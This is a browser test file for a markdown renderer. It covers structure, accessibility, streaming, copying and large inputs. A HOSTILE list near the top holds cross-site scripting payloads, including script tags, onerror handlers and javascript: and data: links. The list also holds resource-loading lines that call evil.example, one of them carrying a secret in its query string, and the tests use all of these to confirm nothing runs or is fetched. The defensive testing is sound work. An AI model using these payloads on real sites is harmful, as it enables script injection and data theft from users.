import { afterAll, beforeAll, beforeEach, expect, test } from "bun:test";
import type { Browser } from "playwright-core";
import { describeInBrowser } from "../../support/browser.ts";
import { violations } from "../accessibility.ts";
import { pressed } from "../button.ts";
import { until } from "../../support/until.ts";
import { openUiPage, type UiPage } from "../../support/ui-page.ts";
import type { markdownPage } from "../pages/markdown.ts";

declare const window: Window & { markdownPage: typeof markdownPage; alerted?: unknown; before?: Element[] };

const HOSTILE = [
  "<script>window.alerted = 1</script>",
  "<img src=x onerror='window.alerted = 1'>",
  "a <img src=https://evil.example/1.png> <svg onload=window.alerted=1><script>window.alerted=1</script></svg>",
  "<a href='javascript:window.alerted=1'>a</a> [b](javascript:window.alerted=1) <javascript:window.alerted=1>",
  "[c](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [d][e]\n\n[e]: javascript:window.alerted=1",
  "![a](https://evil.example/2.png?q=secret) ![b](//evil.example/3.png) ![c][d]\n\n[d]: https://evil.example/4.png",
  "<style>@import url(https://evil.example/5.css); * { background: url(https://evil.example/6.png) }</style>",
  "<div style=\"background:url(https://evil.example/7.png)\" id=a class=widget name=b>text</div>",
  "<iframe src=https://evil.example/8></iframe><object data=https://evil.example/9></object><embed src=https://evil.example/10>",
  "<link rel=stylesheet href=https://evil.example/11.css><meta http-equiv=refresh content='0;url=https://evil.example/12'><base href=https://evil.example/>",
  "<video src=https://evil.example/13 poster=https://evil.example/14></video><audio src=https://evil.example/15></audio><input type=image src=https://evil.example/16>",
  "<form action=https://evil.example/17><button>go</button></form><math><mtext><table><mglyph><style><img src=x onerror=window.alerted=1></style></mglyph></table></mtext></math>",
  "<picture><source srcset=https://evil.example/18><img srcset='https://evil.example/19 2x' src=https://evil.example/20></picture>",
  "<table background=https://evil.example/21><tr><td background=https://evil.example/22>x</td></tr></table>",
  "$\\href{javascript:window.alerted=1}{a}$ $\\includegraphics{https://evil.example/23.png}$ $\\def\\a{\\a\\a}\\a$ $\\url{https://evil.example/24}$",
  "```html onload=window.alerted=1 \"><script>window.alerted=1</script>\n</code><script>window.alerted=1</script>\n```",
];

describeInBrowser("Markdown in a page", (open) => {
  let browser: Browser;
  let ui: UiPage;
  beforeAll(async () => {
    browser = await open();
    ui = await openUiPage(browser, new URL("../pages/markdown.ts", import.meta.url).pathname);
    await ui.page.evaluate(() => window.markdownPage.ready);
  }, 180_000);
  afterAll(async () => {
    await ui?.close();
    await browser?.close();
  }, 180_000);
  beforeEach(async () => {
    await ui.page.evaluate(() => window.markdownPage.show(""));
  }, 180_000);

  const show = (text: string, options?: Parameters<typeof markdownPage.show>[1]) =>
    ui.page.evaluate(([text, options]) => window.markdownPage.show(text, options), [text, options] as const);
  const html = () => ui.page.evaluate(() => window.markdownPage.html());

  test("a character reference is decoded by the browser if it is one, whole and alone", async () => {
    const decoded = await ui.page.evaluate((all) => all.map(window.markdownPage.decoded), ["&amp;", "&nbsp;", "&bne;", "&Afr;", "&semi;", "&zzz;", "&ampx;", "&lt;b>", "&amp;&lt;", "<b>", "&constructor;"]);
    expect(decoded).toEqual(["&", "\u00a0", "=\u20e5", "\u{1d504}", ";", "&zzz;", "&ampx;", "&lt;b>", "&amp;&lt;", "<b>", "&constructor;"]);
    expect(await ui.page.evaluate(() => Object.keys(window).filter((name) => /^(lit|reactive)/.test(name)))).toEqual([]);
  }, 180_000);

  test("texts have their structure, code its colours, formulas their form, all of it accessible", async () => {
    await show("# A\n\nText with **bold**, `code` and $a^2$.\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n\n```py\ndef f(): pass\n```\n\n$$b$$\n\n<kbd>x</kbd>\n\n> q\n");
    await ui.page.locator("math").nth(1).waitFor();
    await ui.page.locator(".hljs-keyword").first().waitFor();
    await ui.page.locator("kbd").waitFor();
    for (const selector of ["h4", "strong", "th[scope=col]", "td.right", "li input:checked", "pre code", "blockquote", "figcaption"]) {
      expect(await ui.page.locator(selector).count(), selector).toBeGreaterThan(0);
    }
    expect(await violations(ui.page)).toEqual([]);
    expect(ui.troubles).toEqual([]);
  }, 180_000);

  test("hostile texts run nothing and fetch nothing (CWE-79, CWE-200)", async () => {
    for (const text of [...HOSTILE, HOSTILE.join("\n\n"), ...HOSTILE.map((one) => `- > ${one}`)]) {
      await show(text);
      await show(text, { streaming: true });
    }
    await show(HOSTILE.join("\n\n"));
    await ui.page.locator("pre code").waitFor();
    await ui.page.waitForFunction(() => !window.markdownPage.html().includes("evil.example/7"));
    expect(await html()).not.toMatch(/<(script|iframe|object|embed|link|meta|base|video|audio|form|svg on|style|picture|source)|onerror=|style="|srcset|background=|id="|href="(javascript|data)/i);
    expect(await ui.page.evaluate(() => window.alerted)).toBeUndefined();
    expect(ui.asked.filter((one) => one.includes("evil") || one.endsWith("/x"))).toEqual([]);
    expect(ui.troubles).toEqual([]);
  }, 180_000);

  test("an image is fetched from a host that the thread names, and another one is a link", async () => {
    const { host } = new URL(ui.origin);
    await show(`![own](${ui.origin}/own.png) ![other](https://evil.example/x.png)`, { allowedImageDomains: [host] });
    await ui.page.locator("img[alt=own]").waitFor({ state: "attached" });
    await until(async () => ui.asked.find((one) => one === "/own.png"));
    expect(await ui.page.locator("a.unloaded").textContent()).toContain("other");
    ui.troubles.length = 0;
  }, 180_000);

  test("while a text grows, only its last block is touched", async () => {
    const words = Array.from({ length: 300 }, (_, i) => `${i % 40 === 39 ? "\n\n" : ""}**word** ${i} `).join("");
    await show(words.slice(0, 2000), { streaming: true });
    await ui.page.evaluate(() => (window.before = [...document.querySelector(".light")!.shadowRoot!.querySelectorAll("p")]));
    for (let length = 2000; length < words.length; length += 50) await show(words.slice(0, length), { streaming: true });
    await show(words);
    const kept = await ui.page.evaluate(() => window.before!.every((p) => p.isConnected));
    expect(kept).toBe(true);
    expect(await ui.page.locator("p strong").count()).toBe(300);
  }, 180_000);

  test("code is copied, and the button says so", async () => {
    await ui.page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    await show("```\nconst a = '<b>';\n```");
    await pressed(ui.page.locator("button.copy"), "Copied");
    expect(await ui.page.evaluate(() => navigator.clipboard.readText())).toBe("const a = '<b>';");
  }, 180_000);

  test("a text of 5 MB is shown bit by bit, and the page answers meanwhile", async () => {
    const honest = `## A heading\n\n${"Words *of* a paragraph, `code` and [links](https://a.example/). ".repeat(30)}\n\n`;
    await ui.page.evaluate((piece) => window.markdownPage.show(piece.repeat(Math.ceil(5e6 / piece.length))), honest);
    await ui.page.locator("h4").first().waitFor();
    const answered = await ui.page.evaluate(async () => {
      const started = performance.now();
      await new Promise((done) => setTimeout(done));
      return performance.now() - started;
    });
    expect(answered).toBeLessThan(5000);
    for (const piece of ["[", "> ", "*a ", "\n"]) {
      await ui.page.evaluate((piece) => window.markdownPage.show(piece.repeat(Math.ceil(5e6 / piece.length))), piece);
    }
    await show("still alive");
    await ui.page.getByText("still alive").waitFor();
  }, 180_000);
});
